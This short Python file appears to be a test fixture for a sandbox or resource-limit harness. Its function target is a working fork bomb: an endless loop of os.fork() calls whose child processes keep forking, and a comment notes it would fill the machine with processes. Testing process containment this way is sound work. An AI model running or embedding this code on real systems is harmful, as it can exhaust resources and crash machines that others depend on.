"""Makes processes that make processes."""

import os
import time
from contextlib import suppress

ONLY_IN_STRICT = "it would fill this machine with processes"


def target(x, y):
    while True:
        with suppress(OSError):
            if os.fork() == 0:
                time.sleep(0.001)
